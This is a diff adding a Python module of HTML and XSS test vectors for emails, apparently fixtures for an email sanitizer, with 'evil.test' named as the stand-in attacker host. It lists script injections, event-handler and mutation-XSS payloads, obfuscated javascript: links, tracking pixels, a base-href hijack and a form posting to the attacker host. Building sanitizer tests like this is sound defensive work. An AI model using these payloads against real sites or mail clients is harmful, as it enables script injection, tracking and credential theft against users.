@@ -1,0 +1,38 @@
+"""Mails that try to run, load or submit something. `evil.test` stands for the attacker."""
+
+from __future__ import annotations
+
+VECTORS = (
+    "<script>alert(1)</script>",
+    '<script src="//evil.test/a.js"></script>',
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.test/pixel.gif">',
+    '<img srcset="https://evil.test/pixel.gif 1x">',
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    '<svg><image href="https://evil.test/a.png"/></svg>',
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<object data="https://evil.test/a.swf"></object><embed src="https://evil.test/a.swf">',
+    '<link rel="stylesheet" href="https://evil.test/a.css">',
+    "<style>@import 'https://evil.test/a.css'; body { background: url(https://evil.test/b.png) }</style>",
+    '<p style="background-image: url(https://evil.test/c.png)">x</p>',
+    '<p style="background-color: red; background: url(https://evil.test/d.png); position: fixed">x</p>',
+    '<table background="https://evil.test/e.png"><tr><td>x</td></tr></table>',
+    '<meta http-equiv="refresh" content="0; url=https://evil.test/">',
+    '<base href="https://evil.test/"><a href="account">log in</a>',
+    '<form action="https://evil.test/"><input autofocus onfocus=alert(1)><button>Go</button></form>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="java\u200bscript:alert(1)">click</a>',
+    '<a href="java&#x09;script:alert(1)">click</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
+    '<a href="//evil.test/" ping="https://evil.test/ping">click</a>',
+    '<video autoplay src="https://evil.test/a.mp4" onloadstart=alert(1)></video>',
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<b/onmouseover=alert(1)>x</b><font/onclick=alert(1) color=red>x</font>",
+    "<body onload=alert(1)>x</body>",
+    "</div></body></html><script>alert(1)</script>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
+)
